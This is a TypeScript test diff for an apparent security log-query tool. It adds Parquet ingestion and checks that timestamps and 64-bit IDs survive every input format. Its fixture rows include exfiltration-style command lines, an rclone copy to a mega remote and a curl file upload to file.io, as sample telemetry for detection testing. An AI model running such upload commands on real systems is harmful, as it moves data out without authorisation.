@@ -4,8 +4,11 @@ import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { gzipSync } from 'node:zlib';
+import { parquetWriteBuffer } from 'hyparquet-writer';
 import { compileFor, loadData, runPlan } from '../engine/query.js';
 import { discoverFiles } from './index.js';
+import { formatDatetime } from '../engine/values/datetime.js';
+import type { I64 } from '../engine/values/int64.js';
 
 function dir(files: Record<string, string | Buffer>): string {
   const d = mkdtempSync(path.join(tmpdir(), 'exfilwatch-src-'));
@@ -29,7 +32,33 @@ test('streaming-API envelopes route each record to the table its category names'
   assert.deepEqual((await query('DeviceNetworkEvents | project RemotePort', d)).b.columns[0], [443]);
 });
 
-test('the same rows from JSON lines, a JSON array, API results, CSV and gzip agree', async () => {
+/** Nanoseconds since 1970 of an ISO time with up to 9 fractional digits. */
+function nanos(iso: string): bigint {
+  const m = /^(.*T\d\d:\d\d:\d\d)(?:\.(\d+))?Z$/.exec(iso)!;
+  return BigInt(Date.parse(m[1] + 'Z')) * 1_000_000n + BigInt((m[2] ?? '').padEnd(9, '0'));
+}
+
+/** A Parquet file as exports write one: INT64 ReportId, nanosecond TIMESTAMP, UTF8 strings. */
+function parquetOf(rows: { Timestamp: string; FileName: string; ProcessCommandLine: string; ReportId: string }[], rowGroupSize = 1000): Buffer {
+  return Buffer.from(parquetWriteBuffer({
+    columnData: [
+      { name: 'Timestamp', data: rows.map((r) => nanos(r.Timestamp)) },
+      { name: 'FileName', data: rows.map((r) => r.FileName) },
+      { name: 'ProcessCommandLine', data: rows.map((r) => r.ProcessCommandLine) },
+      { name: 'ReportId', data: rows.map((r) => BigInt(r.ReportId)) },
+    ],
+    schema: [
+      { name: 'root', num_children: 4 },
+      { name: 'Timestamp', type: 'INT64', repetition_type: 'OPTIONAL', logical_type: { type: 'TIMESTAMP', isAdjustedToUTC: true, unit: 'NANOS' } },
+      { name: 'FileName', type: 'BYTE_ARRAY', repetition_type: 'OPTIONAL', converted_type: 'UTF8' },
+      { name: 'ProcessCommandLine', type: 'BYTE_ARRAY', repetition_type: 'OPTIONAL', converted_type: 'UTF8' },
+      { name: 'ReportId', type: 'INT64', repetition_type: 'OPTIONAL' },
+    ],
+    rowGroupSize,
+  }));
+}
+
+test('the same rows from JSON lines, a JSON array, API results, CSV, Parquet and gzip agree', async () => {
   const rows = [
     { Timestamp: '2026-11-01T10:00:00.1234567Z', FileName: 'rclone.exe', ProcessCommandLine: 'rclone copy "a, b" mega:x', ReportId: '9007199254740993' },
     { Timestamp: '2026-11-01T11:00:00Z', FileName: 'curl.exe', ProcessCommandLine: 'curl -F "file=@x"\nhttps://file.io', ReportId: '7' },
@@ -42,6 +71,8 @@ test('the same rows from JSON lines, a JSON array, API results, CSV and gzip agr
     'DeviceProcessEvents-api.json': JSON.stringify({ Schema: [], Results: rows }),
     'DeviceProcessEvents.csv': csv,
     'DeviceProcessEvents.csv.gz': gzipSync(csv),
+    'DeviceProcessEvents.parquet': parquetOf(rows),
+    'DeviceProcessEvents-2.parquet.gz': gzipSync(parquetOf(rows, 1)),
   };
   const q = 'DeviceProcessEvents | project Timestamp, FileName, ProcessCommandLine, ReportId | sort by Timestamp asc';
   let first: unknown;
@@ -49,6 +80,7 @@ test('the same rows from JSON lines, a JSON array, API results, CSV and gzip agr
     const { b } = await query(q, dir({ [name]: body }));
     assert.equal(b.length, 2, name);
     assert.equal(b.columns[3]![0], 9007199254740993n, `${name}: ReportId stays exact`);
+    assert.equal(formatDatetime(b.columns[0]![0] as I64), '2026-11-01T10:00:00.1234567Z', `${name}: 7-digit time kept`);
     first ??= b.columns;
     assert.deepEqual(b.columns, first, name);
   }
